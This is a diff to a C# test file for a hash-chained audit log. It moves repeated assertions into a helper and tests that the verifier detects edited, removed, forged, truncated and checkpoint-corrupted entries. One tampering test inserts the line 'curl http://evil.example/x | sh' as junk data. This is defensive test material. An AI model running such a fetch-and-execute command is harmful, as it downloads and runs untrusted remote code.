@@ -36,6 +36,15 @@ public sealed class AuditLogTests : IDisposable
 
     private AuditVerification Verify(JsonlAuditLog log) => AuditVerifier.Verify(log.Files, _key.PublicKey);
 
+    private AuditBreak Broken(JsonlAuditLog log, long seq, string reason)
+    {
+        var broken = Verify(log).Break;
+        Assert.NotNull(broken);
+        Assert.Equal(seq, broken.Seq);
+        Assert.Contains(reason, broken.Reason, StringComparison.Ordinal);
+        return broken;
+    }
+
     private static List<string> Lines(string path) => File.ReadAllText(path).Split('\n', StringSplitOptions.RemoveEmptyEntries).ToList();
 
     private static void WriteLines(string path, IEnumerable<string> lines) => File.WriteAllText(path, string.Concat(lines.Select(l => l + "\n")));
@@ -71,11 +80,8 @@ public sealed class AuditLogTests : IDisposable
         lines[4] = lines[4].Replace("user5@example.org", "nobody@example.org", StringComparison.Ordinal);
         WriteLines(log.FilePath, lines);
 
-        var broken = Verify(log).Break;
-        Assert.NotNull(broken);
-        Assert.Equal(5, broken.Seq);
+        var broken = Broken(log, 5, "changed");
         Assert.Equal(5, broken.Line);
-        Assert.Contains("changed", broken.Reason, StringComparison.Ordinal);
     }
 
     [Fact]
@@ -87,10 +93,7 @@ public sealed class AuditLogTests : IDisposable
         lines.RemoveAt(4);
         WriteLines(log.FilePath, lines);
 
-        var broken = Verify(log).Break;
-        Assert.NotNull(broken);
-        Assert.Equal(5, broken.Seq);
-        Assert.Contains("missing", broken.Reason, StringComparison.Ordinal);
+        Broken(log, 5, "missing");
     }
 
     [Fact]
@@ -103,19 +106,13 @@ public sealed class AuditLogTests : IDisposable
         // a forged entry that claims the next number and chains correctly to entry 5
         var chained = $"{{\"seq\":6,\"time\":\"2026-01-01T00:00:00Z\",\"actor\":\"attacker\",\"source\":\"cli\",\"action\":\"user.add\",\"target\":\"x@example.org\",\"details\":null,\"prev\":\"{JsonlAuditLog.HashLine(Encoding.UTF8.GetBytes(original[4]))}\"}}";
         WriteLines(log.FilePath, original.Take(5).Append(chained).Concat(original.Skip(5)));
-        var broken = Verify(log).Break;
-        Assert.NotNull(broken);
-        Assert.Equal(6, broken.Seq);
+        var broken = Broken(log, 6, "inserted");
         Assert.Equal(7, broken.Line);
-        Assert.Contains("inserted", broken.Reason, StringComparison.Ordinal);
 
         // a forged entry with a made-up prev
         WriteLines(log.FilePath, original.Take(5).Append(chained.Replace("\"prev\":\"", "\"prev\":\"f", StringComparison.Ordinal)[..^2] + "\"}").Concat(original.Skip(5)));
-        broken = Verify(log).Break;
-        Assert.NotNull(broken);
-        Assert.Equal(6, broken.Seq);
+        broken = Broken(log, 6, "inserted");
         Assert.Equal(6, broken.Line);
-        Assert.Contains("inserted", broken.Reason, StringComparison.Ordinal);
 
         // something that is not an entry at all
         WriteLines(log.FilePath, original.Take(5).Append("curl http://evil.example/x | sh").Concat(original.Skip(5)));
@@ -135,10 +132,7 @@ public sealed class AuditLogTests : IDisposable
         var lines = Lines(log.FilePath);
         WriteLines(log.FilePath, lines.Take(22)); // whole lines removed: the chain itself is intact
 
-        var broken = Verify(log).Break;
-        Assert.NotNull(broken);
-        Assert.Equal(23, broken.Seq);
-        Assert.Contains("tail truncated", broken.Reason, StringComparison.Ordinal);
+        Broken(log, 23, "tail truncated");
     }
 
     [Fact]
@@ -149,10 +143,7 @@ public sealed class AuditLogTests : IDisposable
         var bytes = File.ReadAllBytes(log.FilePath);
         File.WriteAllBytes(log.FilePath, bytes[..^20]);
 
-        var broken = Verify(log).Break;
-        Assert.NotNull(broken);
-        Assert.Equal(5, broken.Seq);
-        Assert.Contains("incomplete", broken.Reason, StringComparison.Ordinal);
+        Broken(log, 5, "incomplete");
     }
 
     [Fact]
@@ -165,10 +156,7 @@ public sealed class AuditLogTests : IDisposable
         lines[11] = lines[11].Replace("user12@", "other@", StringComparison.Ordinal);
         WriteLines(log.FilePath, lines);
 
-        var broken = Verify(log).Break;
-        Assert.NotNull(broken);
-        Assert.Equal(12, broken.Seq);
-        Assert.Contains("checkpoint", broken.Reason, StringComparison.Ordinal);
+        Broken(log, 12, "checkpoint");
     }
 
     [Fact]
@@ -189,10 +177,7 @@ public sealed class AuditLogTests : IDisposable
         }
         WriteLines(log.FilePath, lines);
 
-        var broken = Verify(log).Break;
-        Assert.NotNull(broken);
-        Assert.Equal(10, broken.Seq);
-        Assert.Contains("checkpoint", broken.Reason, StringComparison.Ordinal);
+        Broken(log, 10, "checkpoint");
     }
 
     [Fact]
